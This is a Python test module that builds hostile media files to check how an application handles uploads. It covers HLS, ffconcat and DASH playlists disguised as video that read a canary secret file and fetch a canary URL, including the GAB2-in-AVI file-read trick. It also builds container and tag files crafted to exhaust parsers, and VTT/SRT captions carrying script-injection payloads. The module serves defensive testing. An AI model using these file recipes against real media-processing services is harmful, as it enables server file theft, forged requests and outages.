"""Film, sound and captions: playlists that call themselves films, boxes without end, captions that are pages."""

import struct
from collections.abc import Callable

from tests.faults.hostile.attack import PARSERS, PLAYLISTS, SCRIPTS, Attack, Canary


def _box(kind: bytes, data: bytes, size: int | None = None) -> bytes:
    return struct.pack(">I", len(data) + 8 if size is None else size) + kind + data


_TYPE = _box(b"ftyp", b"isom\0\0\2\0isommp41")


def _hls(canary: Canary) -> bytes:
    return (
        "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n"
        f"concat:{canary.secret}|{canary.url}/segment\n#EXTINF:10.0,\n{canary.url}/segment.ts\n"
        f"#EXTINF:10.0,\nfile://{canary.secret}\n#EXT-X-ENDLIST\n"
    ).encode()


def _concat(canary: Canary) -> bytes:
    return f"ffconcat version 1.0\nfile '{canary.secret}'\nfile '{canary.url}/part'\n".encode()


def _dash(canary: Canary) -> bytes:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S">'
        f'<Period><AdaptationSet><Representation id="1" bandwidth="1"><BaseURL>{canary.url}/dash</BaseURL>'
        f"<SegmentList><SegmentURL media='file://{canary.secret}'/></SegmentList></Representation></AdaptationSet>"
        "</Period></MPD>"
    ).encode()


def _sdp(_: Canary) -> bytes:
    return b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"


def _gab2(canary: Canary) -> bytes:
    """A playlist as the subtitle of a film: the trick that read files of servers in 2017."""
    playlist = _hls(canary)
    text = b"GAB2\0\2\0" + struct.pack("<I", 2) + b"\0\0\4\0" + struct.pack("<I", len(playlist)) + playlist
    chunk = b"01tx" + struct.pack("<I", len(text)) + text + b"\0" * (len(text) % 2)
    movi = b"LIST" + struct.pack("<I", len(chunk) + 4) + b"movi" + chunk
    head = b"avih" + struct.pack("<I", 56) + struct.pack("<14I", 40_000, 0, 0, 0, 1, 0, 2, 0, 16, 16, 0, 0, 0, 0)
    stream = b"strh" + struct.pack("<I", 56) + b"txts" + b"\0" * 52 + b"strf" + struct.pack("<I", 0)
    strl = b"LIST" + struct.pack("<I", len(stream) + 4) + b"strl" + stream
    hdrl = b"LIST" + struct.pack("<I", len(head) + len(strl) * 2 + 4) + b"hdrl" + head + strl * 2
    data = b"AVI " + hdrl + movi
    return b"RIFF" + struct.pack("<I", len(data)) + data


def _reference(canary: Canary) -> bytes:
    """A film that says its data lies in another file and at an address."""
    url = _box(b"url ", b"\0\0\0\0" + f"{canary.url}/data\0".encode())
    path = _box(b"alis", b"\0\0\0\0" + str(canary.secret).encode())
    places = _box(b"dinf", _box(b"dref", struct.pack(">II", 0, 2) + url + path))
    track = _box(b"trak", _box(b"mdia", _box(b"minf", places)))
    rmra = _box(b"rmra", _box(b"rmda", _box(b"rdrf", b"\0\0\0\0url " + struct.pack(">I", 99) + canary.url.encode())))
    return _box(b"ftyp", b"qt  \0\0\2\0qt  ") + _box(b"moov", rmra + track)


def _nested(depth: int) -> bytes:
    inner = b""
    for _ in range(depth):
        inner = _box(b"udta", inner)
    return _TYPE + _box(b"moov", inner)


def _table(kind: bytes, count: int) -> bytes:
    table = _box(b"stbl", _box(kind, struct.pack(">III", 0, 0, count)))
    return _TYPE + _box(b"moov", _box(b"trak", _box(b"mdia", _box(b"minf", table))))


def _element(number: bytes, data: bytes, size: int | None = None) -> bytes:
    return number + struct.pack(">Q", (len(data) if size is None else size) | 1 << 56) + data


def _matroska(inner: bytes) -> bytes:
    head = _element(b"\x1a\x45\xdf\xa3", _element(b"\x42\x82", b"matroska"))
    return head + _element(b"\x18\x53\x80\x67", inner, (1 << 56) - 2)


def _deep_matroska() -> bytes:
    inner = b""
    for _ in range(5_000):
        inner = _element(b"\xb6", inner)
    return _matroska(_element(b"\x10\x43\xa7\x70", _element(b"\x45\xb9", inner)))


def _id3(frames: bytes, size: int | None = None) -> bytes:
    length = len(frames) if size is None else size
    safe = bytes(length >> shift & 0x7F for shift in (21, 14, 7, 0))
    return b"ID3\4\0\0" + safe + frames + b"\xff\xfb\x90\0" * 400


def _frame(kind: bytes, data: bytes) -> bytes:
    return kind + bytes(len(data) >> shift & 0x7F for shift in (21, 14, 7, 0)) + b"\0\0" + data


_CUE = "00:00:01.000 --> 00:00:02.000\n"
_SCRIPT = "<script>SCRIPT_OF_CAPTIONS()</script><img src=x onerror=SCRIPT_OF_CAPTIONS()>"

_FILES: dict[str, tuple[str, str, Callable[[Canary], bytes], tuple[str, ...]]] = {
    "a playlist.mp4": (PLAYLISTS, "text", _hls, ()),
    "a playlist.m3u8": (PLAYLISTS, "text", _hls, ()),
    "a list of files.mp4": (PLAYLISTS, "text", _concat, ()),
    "a list of files.txt": (PLAYLISTS, "text", _concat, ()),
    "a manifest.mpd": (PLAYLISTS, "", _dash, ()),
    "a session.sdp": (PLAYLISTS, "text", _sdp, ()),
    "a playlist as subtitle.avi": (PLAYLISTS, "media", _gab2, ()),
    "data elsewhere.mov": (PLAYLISTS, "media", _reference, ()),
    "a playlist behind the name of a type.mp4": (PLAYLISTS, "media", lambda canary: _TYPE + _hls(canary), ()),
    "a playlist behind tags.mp3": (PLAYLISTS, "media", lambda canary: _id3(b"")[:10] + _hls(canary), ()),
    "boxes in boxes.mp4": (PARSERS, "media", lambda _: _nested(30_000), ()),
    "a box of no size.mp4": (PARSERS, "media", lambda _: _TYPE + _box(b"moov", _box(b"trak", b"", 0) * 9_999, 1), ()),
    "samples without end.mp4": (PARSERS, "media", lambda _: _table(b"stsz", 0xFFFFFFFF), ()),
    "times without end.mp4": (PARSERS, "media", lambda _: _table(b"stts", 0xFFFFFFFF), ()),
    "a million tracks.mp4": (PARSERS, "media", lambda _: _TYPE + _box(b"moov", _box(b"trak", b"") * 500_000), ()),
    "elements in elements.mkv": (PARSERS, "media", lambda _: _deep_matroska(), ()),
    "an element of endless size.webm": (
        PARSERS, "media", lambda _: _matroska(_element(b"\x16\x54\xae\x6b", b"", 2**55)).replace(b"matroska", b"webm\0\0\0\0"), ()
    ),
    "tags of 256 MB that are not there.mp3": (PARSERS, "media", lambda _: _id3(b"", 0x0FFFFFFF), ()),
    "a hundred thousand tags.mp3": (PARSERS, "media", lambda _: _id3(_frame(b"TXXX", b"\3a\0b") * 100_000), ()),
    "a cover of four gigapixels.mp3": (
        PARSERS, "media", lambda _: _id3(_frame(b"APIC", b"\0image/png\0\3\0\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\xff\xff\xff\xff" * 2)), ()
    ),
    "sound of endless rate.wav": (
        PARSERS, "media",
        lambda _: b"RIFF\xff\xff\xff\xffWAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 65535, 0xFFFFFFFF, 0xFFFFFFFF, 65535, 32)
        + b"data\xff\xff\xff\xff", (),
    ),
    "pages of nothing.ogg": (PARSERS, "media", lambda _: (b"OggS\0\2" + b"\xff" * 20 + b"\0") * 50_000, ()),
    "frames of endless size.flv": (PARSERS, "media", lambda _: b"FLV\1\5\0\0\0\t\0\0\0\0" + b"\x12\xff\xff\xff\0\0\0\0\0\0\0" * 9_999, ()),
    "zeros.ts": (PARSERS, "media", lambda _: (b"\x47" + b"\x1f\xff\x10" + b"\0" * 184) * 50_000, ()),
    "scripts.vtt": (SCRIPTS, "captions", lambda _: f"WEBVTT\n\n{_CUE}{_SCRIPT} Chào\n".encode(), ("<script", "onerror")),
    "scripts.srt": (
        SCRIPTS, "captions", lambda _: f"1\n{_CUE.replace('.', ',')}{_SCRIPT} Chào\n".encode(), ("<script", "onerror")
    ),
    "styles that fetch.vtt": (
        SCRIPTS, "captions",
        lambda canary: f"WEBVTT\n\nSTYLE\n::cue {{ background: url({canary.url}/style) }}\n\n{_CUE}Chào\n".encode(), ("url(",),
    ),
    "drawings and fonts.ass": (
        SCRIPTS, "captions",
        lambda _: ("[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: ../../x.ttf\n" + "!" * 9_999 + "\n[Events]\n"
                   "Format: Layer, Start, End, Text\nDialogue: 0,0:00:01.00,0:00:02.00,{\\p1\\fs99999999\\t(0,1e9)}m 0 0 l 9 9"
                   "{\\p0}Chào\n").encode(), ("\\p1",),
    ),
    "a million cues at once.srt": (
        PARSERS, "captions", lambda _: b"".join(b"%d\n00:00:01,000 --> 00:00:02,000\nCh\n\n" % n for n in range(300_000)), ()
    ),
    "times out of measure.srt": (
        PARSERS, "captions",
        lambda _: b"1\n99:59:59,999 --> 00:00:00,000\na\n\n2\n9999999999999999:00:00,000 --> 99999999999999999:00:00,000\nb\n", (),
    ),
    "tags in tags.vtt": (PARSERS, "captions", lambda _: f"WEBVTT\n\n{_CUE}{'<b>' * 500_000}".encode(), ()),
    "a cue of 20 MB.vtt": (PARSERS, "captions", lambda _: f"WEBVTT\n\n{_CUE}{'a' * 20_000_000}\n".encode(), ()),
}  # fmt: skip

ATTACKS = tuple(
    Attack(name, threat, reader, make, absent=absent) for name, (threat, reader, make, absent) in _FILES.items()
)
